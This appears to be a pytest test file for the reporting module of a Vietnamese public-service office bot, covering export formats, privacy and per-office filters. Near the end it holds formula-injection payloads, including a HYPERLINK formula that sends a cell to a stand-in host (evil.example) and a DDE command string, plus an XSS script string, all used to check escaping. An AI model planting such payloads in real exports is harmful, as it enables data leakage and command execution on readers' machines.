"""Reports: numbers checked by hand on a fixed data set in a real database, every export format,
what an office forwards (title block, names, formats), privacy."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from openpyxl import load_workbook
from PIL import Image

from bot import clock, reports
from bot.app import open_desk
from bot.cases import CaseDesk
from bot.demo import seed_month
from tests.helpers import CODE_A, CODE_B, OFFICE_B, make_config, make_offices_config

ROOT = Path(__file__).resolve().parent.parent
D, T = dt.date, dt.datetime
F = reports.Filters(D(2026, 11, 1), D(2026, 11, 30))
TODAY = D(2026, 11, 30)
KS = "dang-ky-khai-sinh"

FIXED_CASES = [   # code, received, due, steps after "received"
    ("A", T(2026, 11, 2, 9), D(2026, 11, 10), [(T(2026, 11, 5, 9), "ready"), (T(2026, 11, 6, 9), "returned")]),  # early
    ("B", T(2026, 11, 2, 9), D(2026, 11, 10), [(T(2026, 11, 10, 9), "ready")]),                                  # on time
    ("C", T(2026, 11, 2, 9), D(2026, 11, 10), [(T(2026, 11, 12, 9), "returned")]),                               # late
    ("D", T(2026, 11, 2, 9), D(2026, 11, 10), [(T(2026, 11, 3, 9), "processing")]),                              # overdue
    ("E", T(2026, 11, 20, 9), D(2026, 12, 10), [(T(2026, 11, 21, 9), "needs_supplement")]),                      # in time
    ("F", T(2026, 10, 1, 9), D(2026, 10, 10), [(T(2026, 10, 9, 9), "returned")]),                                # before
    ("G", T(2026, 10, 20, 9), D(2026, 11, 5), [(T(2026, 11, 3, 9), "ready")]),                          # carried, early
]
FIXED_RATINGS = [   # level, day, channel, answers
    ("5", D(2026, 11, 6), "telegram", {"visits": "0", "attitude": "good"}),
    ("5", D(2026, 11, 7), "telegram", {"visits": "0"}),
    ("4", D(2026, 11, 12), "telegram", {"visits": "1"}),
    ("3", D(2026, 11, 13), "telegram", {}),
    ("1", D(2026, 11, 14), "telegram", {"comment": "Chờ quá lâu", "contact_code": "C", "visits": "2", "extra_fee": "yes"}),
    ("2", D(2026, 11, 15), "zalo", {"comment": "Không ai báo"}),
]


async def fill(desk: CaseDesk) -> None:
    store = desk.store
    for code, received, due, steps in FIXED_CASES:
        await store.insert_case({"code": code, "procedure": KS, "name": "Nguyễn Văn Bí Mật", "phone": "0912345678",
                                 "channel": "trực tuyến" if code == "A" else "trực tiếp",
                                 "received": received.isoformat(), "due": due.isoformat(), "status": "received"}, "cb")
        for at, status in steps:
            await store.change_status(code, status, "thiếu tờ khai" if status == "needs_supplement" else "", "cb", at=at)
    for i, (level, day, channel, answers) in enumerate(FIXED_RATINGS):
        rating = await store.add_rating(f"R{i}", channel, KS, "", 5, level, at=T.combine(day, dt.time(10)),
                                        timeliness="late" if level == "1" else "early")
        assert rating is not None
        for key, value in answers.items():
            await store.set_rating_field(rating, key, value)
    for i, vote in enumerate("up up up down".split()):
        qid = await store.log_question("telegram", f"câu hỏi {i}", "procedure", KS, None, 0.9, True)
        await store.vote(qid, "telegram", vote)
    await store.log_question("telegram", "làm hộ chiếu ở đâu", "unknown", None, None, 0.2, False)
    await store.log_question("telegram", "làm hộ chiếu ở đâu", "unknown", None, None, 0.2, False)
    await store.add_feedback("telegram", "complaint", "Gọi hotline không ai nghe")
    await store.add_feedback("telegram", "praise", "Tốt")


@pytest_asyncio.fixture
async def fixed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[CaseDesk]:
    """The fixed data set; questions, votes and feedback are stamped with the time they are
    logged, so the storage's clock is held inside the period."""
    for module in ("bot.storage.feedback", "bot.storage.conversations"):
        monkeypatch.setattr(f"{module}.now", lambda: T(2026, 11, 20, 12))
    desk = await open_desk(make_config(tmp_path / "db.sqlite3"))
    await fill(desk)
    yield desk
    await desk.store.close()


async def fixed_report(desk: CaseDesk, filters: reports.Filters = F) -> reports.Report:
    return await reports.build_report(desk, filters, TODAY)



@pytest.mark.asyncio
async def test_numbers_computed_by_hand(fixed):
    r = await fixed_report(fixed)
    [t] = r.tallies
    assert (t.carried, t.received, t.received_online) == (1, 5, 1)       # G from October; A–E; A online
    assert (t.early, t.on_time, t.late) == (2, 1, 1)                     # A, G early; B on time; C late
    assert (t.open_in_time, t.open_overdue) == (1, 1)                    # E paused for a supplement; D overdue
    assert r.ratings == 6 and r.satisfied_share == pytest.approx(3 / 6)  # 5, 5, 4 of six
    assert r.on_time_share == pytest.approx(3 / 4)
    assert [c.code for c in r.overdue] == ["D"]
    assert [(c.code, c.note) for c in r.supplements] == [("E", "thiếu tờ khai")]
    assert r.answers["visits"] == {"0": 2, "1": 1, "2": 1}
    assert r.usefulness == [(KS, 3, 1)]
    assert [(n.level, n.contact_code) for n in r.negatives] == [("1", "C"), ("2", None)]   # code only with consent
    assert [c.text for c in r.complaints] == ["Gọi hotline không ai nghe"]
    assert r.unanswered == [("làm hộ chiếu ở đâu", 2, None)]


@pytest.mark.asyncio
async def test_filters_by_channel_and_procedure(fixed):
    assert (await fixed_report(fixed, reports.Filters(F.start, F.end, channel="zalo"))).ratings == 1
    other = await fixed_report(fixed, reports.Filters(F.start, F.end, procedure="dang-ky-ket-hon"))
    assert other.ratings == 0 and other.satisfied_share is None and other.tallies == []


@pytest.mark.asyncio
async def test_the_xlsx_can_be_forwarded_as_it_is(fixed, tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(reports.to_xlsx(await fixed_report(fixed), reports.to_png(await fixed_report(fixed))))
    book = load_workbook(path)
    assert book.sheetnames[:5] == ["Tổng hợp", "Tỷ lệ", "Theo thủ tục", "Mức độ hài lòng", "Tiêu chí Điều 33"]
    assert book.sheetnames[-1] == "Biểu đồ"
    sheet = book["Theo thủ tục"]
    assert sheet["A1"].value == "Bộ phận Một cửa UBND phường Mẫu"                  # the office, the title, the period
    assert "BÁO CÁO" in sheet["A2"].value and "01/11/2026" in sheet["A3"].value and "30/11/2026" in sheet["A3"].value
    assert sheet["A4"].value == "Ngày lập: 30/11/2026"
    header = [c.value for c in sheet[7]]
    assert header[:4] == ["STT", "Thủ tục", "Kỳ trước chuyển sang", "Tiếp nhận trong kỳ"]
    assert sheet["A7"].font.b and sheet.freeze_panes == "A8"
    assert [c.value for c in sheet[8]][:8] == [1, "Đăng ký khai sinh", 1, 5, 1, 2, 1, 1]   # the name, not the id
    assert sheet["I8"].value == pytest.approx(0.75) and sheet["I8"].number_format == "0.0%"
    assert sheet["B9"].value == "Tổng cộng"
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4 and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    negatives = book["Chưa hài lòng"]
    assert negatives["A8"].value.date() == D(2026, 11, 14) and negatives["A8"].number_format == "dd/mm/yyyy"
    assert [c.value for c in negatives[8]][1:] == ["Đăng ký khai sinh", "Rất không hài lòng", "giải quyết quá hạn",
                                                   "Chờ quá lâu", "C"]
    assert negatives["F9"].value in (None, "")
    criteria = [row[1].value for row in book["Tiêu chí Điều 33"].iter_rows(min_row=8)]
    assert "Thái độ của cán bộ hướng dẫn, tiếp nhận, giải quyết hồ sơ" in criteria and len(criteria) == 9
    assert book["Câu hỏi chưa trả lời"]["A8"].value == "làm hộ chiếu ở đâu"


@pytest.mark.asyncio
async def test_csv_opens_in_a_vietnamese_excel(fixed):
    rows = list(csv.reader(io.StringIO(reports.to_csv(await fixed_report(fixed))), delimiter=";"))
    assert ["Bộ phận Một cửa UBND phường Mẫu"] in rows and ["Phản ánh, kiến nghị gửi qua bot"] in rows
    assert ["Tỷ lệ hài lòng", "50,0%"] in rows                           # a decimal comma
    assert ["Lượt đánh giá", "6"] in rows


@pytest.mark.asyncio
async def test_the_html_page_prints_on_a4_with_every_table_and_nothing_unescaped(fixed):
    await fixed.store.add_feedback("telegram", "complaint", "<script>alert('x')</script> & chờ lâu")
    page = reports.to_html(await fixed_report(fixed), b"\x89PNG")
    assert page.startswith("<!DOCTYPE html>") and '<html lang="vi">' in page and "size: A4 landscape" in page
    assert "<h1>BÁO CÁO KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH VÀ MỨC ĐỘ HÀI LÒNG</h1>" in page
    assert "Kỳ báo cáo: từ ngày 01/11/2026 đến ngày 30/11/2026" in page
    assert "<td>Đăng ký khai sinh</td>" in page and "<td class=n align=right>75,0%</td>" in page
    assert "<script>" not in page and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; chờ lâu" in page
    assert 'src="data:image/png;base64,' in page


@pytest.mark.asyncio
async def test_png_chart_decodes_with_the_expected_size(fixed):
    image = Image.open(io.BytesIO(reports.to_png(await fixed_report(fixed))))
    image.load()
    assert image.format == "PNG" and image.size == (1000, 750)
    assert len(image.convert("RGB").getcolors(maxcolors=1_000_000)) > 10    # not a blank canvas


@pytest_asyncio.fixture
async def seeded(tmp_path: Path) -> AsyncIterator[CaseDesk]:
    desk = await open_desk(make_config(tmp_path / "db.sqlite3"))
    assert await seed_month(desk) == 120
    yield desk
    await desk.store.close()


@pytest.mark.asyncio
async def test_no_name_phone_or_chat_id_in_any_report_format(seeded):
    today = clock.today()
    report = await reports.build_report(seeded, reports.Filters(today - dt.timedelta(days=31), today))
    assert report.ratings > 20 and report.closed > 50
    names = [c.name for c in await seeded.list()]
    phones = [c.phone for c in await seeded.list()]
    xlsx = load_workbook(io.BytesIO(reports.to_xlsx(report)))
    xlsx_text = " ".join(str(c.value) for sheet in xlsx for row in sheet.iter_rows() for c in row)
    for rendered in (reports.render_text(report), reports.to_csv(report), reports.summary_text(report), xlsx_text):
        assert not any(n in rendered for n in names)
        assert not any(p in rendered or p[1:] in rendered for p in phones)
        assert "citizen" not in rendered


@pytest.mark.asyncio
async def test_seed_refuses_a_database_that_has_cases(seeded):
    assert await seed_month(seeded) == 0


def test_report_command_writes_every_format(tmp_path):
    env = {**os.environ, "MOTCUA_DB": str(tmp_path / "r.sqlite3")}

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "bot", *args], capture_output=True, text=True, cwd=ROOT,
                              env=env, timeout=120)

    assert run("demo", "seed").returncode == 0
    again = run("demo", "seed")
    assert again.returncode == 1 and "--db" in again.stderr and "--force" not in again.stderr   # real-looking data
    today = clock.today()
    span = ["--from", f"{today - dt.timedelta(days=30):%d/%m/%Y}", "--to", str(today)]
    text = run("report", *span)
    assert text.returncode == 0 and "Tỷ lệ hài lòng" in text.stdout
    for fmt in ("csv", "xlsx", "html", "png"):
        out = tmp_path / f"r.{fmt}"
        done = run("report", *span, "--format", fmt, "--output", str(out))
        assert done.returncode == 0, done.stderr
        assert out.stat().st_size > 500
    assert run("report", "--from", "2026-11-30", "--to", "2026-11-01").returncode == 2
    default = run("report", "--format", "csv")                           # no --output: the ignored folder
    assert default.returncode == 0 and (ROOT / "baocao").is_dir() and "baocao/" in default.stdout
    assert "/baocao/" in (ROOT / ".gitignore").read_text().splitlines()


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"Khiếu nại")', "=cmd|' /C calc'!A", "+x+y", "-a+b",
           "@SUM(A:A)", "\t=x", "\r=y"]


async def hostile_report(desk: CaseDesk) -> reports.Report:
    """Citizens' complaints and a rating comment written as formulas (R4)."""
    for text in HOSTILE:
        await desk.store.add_feedback("telegram", "complaint", text)
    rating = await desk.store.add_rating("H", "telegram", KS, "", 5, "1", at=T(2026, 11, 14, 10))
    assert rating is not None
    await desk.store.set_rating_field(rating, "comment", "=x+y")
    return await fixed_report(desk)


@pytest.mark.asyncio
async def test_text_from_outside_never_becomes_a_formula_in_the_xlsx(fixed, tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(reports.to_xlsx(await hostile_report(fixed)))
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert {h for h in HOSTILE if "\r" not in h and not h.startswith("\t")} <= texts and "=x+y" in texts


@pytest.mark.asyncio
async def test_text_from_outside_never_starts_a_formula_in_the_csv(fixed):
    rows = list(csv.reader(io.StringIO(reports.to_csv(await hostile_report(fixed))), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {"'" + text for text in HOSTILE if not text.startswith(("\t", "\r"))} <= set(cells)


@pytest.mark.asyncio
async def test_a_report_for_one_office_counts_its_cases_and_ratings_only_and_carries_its_name(tmp_path):
    desk = await open_desk(make_offices_config(tmp_path, tmp_path / "db.sqlite3"))
    try:
        for code in (CODE_A, CODE_B):
            case = await desk.add(code, KS, "Nguyễn Văn An", "0912345678", received=T(2026, 11, 2, 9))
            await desk.update(code, "returned", at=T(2026, 11, 3, 9))
            await desk.store.add_rating(code, "telegram", KS, case.office, 5, "5" if code == CODE_A else "1",
                                        at=T(2026, 11, 4, 9), timeliness="early")
        office_b = await fixed_report(desk, reports.Filters(F.start, F.end, office=OFFICE_B))
        assert (office_b.office, office_b.total("received"), office_b.ratings) == ("Xã Mường Ảng", 1, 1)
        assert office_b.satisfied == 0
        province = await fixed_report(desk)
        assert (province.office, province.total("received"), province.ratings) == (desk.front.name, 2, 2)
    finally:
        await desk.store.close()
